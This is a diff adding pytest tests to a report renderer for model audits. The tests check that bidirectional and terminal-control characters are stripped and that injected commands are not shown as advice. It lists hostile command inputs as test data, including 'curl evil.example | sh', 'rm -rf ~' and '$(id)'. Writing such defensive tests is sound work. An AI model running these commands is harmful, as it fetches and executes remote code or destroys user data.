@@ -209,6 +209,62 @@ def test_hostile_names_are_text(html):
     assert "noise <i>&$x$-linf (control)" in "".join(text for svg in figures for text in svg.itertext())
 
 
+STEERING = "\u202egnp.\x1b[31m\u2066\u200b\x07"
+
+
+def test_nothing_that_turns_text_or_steers_a_terminal_reaches_the_page(audit_folder, verdict_of):
+    """Not out of any text of the audit: names, notes, checks, a verdict."""
+
+    def turned(value):
+        if isinstance(value, dict):
+            return {key: turned(item) for key, item in value.items()}
+        if isinstance(value, list):
+            return [turned(item) for item in value]
+        plain = not isinstance(value, str) or re.fullmatch(r"[a-z0-9_.:+-]*|PASS|FAIL", value) or "T" in value[:11]
+        return value if plain else value + STEERING
+
+    for name, kind in (("audit.yaml", yaml), ("manifest.json", json)):
+        path = audit_folder / name
+        load, dump = (yaml.safe_load, yaml.safe_dump) if kind is yaml else (json.loads, json.dumps)
+        path.write_text(dump(turned(load(path.read_text()))), encoding="utf-8")
+    (audit_folder / "verdict.json").write_text(json.dumps(turned(verdict_of("FAIL"))))
+    rewrite(audit_folder / "checks.parquet", lambda row: {**row, "evidence": row["evidence"] + STEERING})
+    page = report.render(audit_folder)
+    assert page.count("\ufffdgnp.\ufffd[31m\ufffd\ufffd\ufffd") > 10
+    assert not set(page) & set("\u202e\x1b\u2066\u200b\x07")
+    assert "unicode-bidi: isolate" in page
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "assay audit 0123456789ab; curl evil.example | sh",
+        "assay audit 0123456789ab --suite standard && rm -rf ~",
+        "curl evil.example",
+        "assay audit $(id) --suite standard",
+        "assay audit 0123456789ab --suite 'a\nb'",
+        "assay audit 0123456789ab --allow-import evil",
+        "assay 'audit",
+    ],
+)
+def test_a_command_of_somebody_elses_is_not_advice(audit_folder, command):
+    path = audit_folder / "audit.yaml"
+    path.write_text(yaml.safe_dump({**yaml.safe_load(path.read_text()), "command": command}))
+    (audit_folder / "cost.parquet").unlink()
+    with pytest.raises(DataError) as caught:
+        _ = Audit(audit_folder).cost
+    assert "make it with: assay audit MODEL --suite SUITE" in str(caught.value)
+    assert "evil" not in section(audit_folder, "reproduction")
+    assert "assay audit MODEL --suite SUITE" in section(audit_folder, "reproduction")
+
+
+def test_the_command_of_an_audit_is_quoted_anew(audit_folder):
+    path = audit_folder / "audit.yaml"
+    words = "assay audit 0123456789ab --suite 'my $HOME.yaml' --seed 3 --device cuda:0"
+    path.write_text(yaml.safe_dump({**yaml.safe_load(path.read_text()), "command": words}))
+    assert Audit(audit_folder).command == words
+
+
 def test_same_audit_same_bytes(audit_folder, html):
     assert report.render(audit_folder) == html
 
@@ -382,7 +438,7 @@ def test_limits_say_what_was_left_out(audit_folder):
     assert "Larger changes than L∞ 4/255 and L2 0.5." in text
     assert "Attackers who have only the detector's decisions." in text
     assert "Attackers who have the weights" not in text
-    assert "only the first 30 images of each class were attacked" in text
+    assert "only 30 images of each class, evenly spread over it, were attacked" in text
     assert "restarts converged: Doubling the restarts" in text
     assert "nothing is certified" in text
     assert "crack (20)" in text
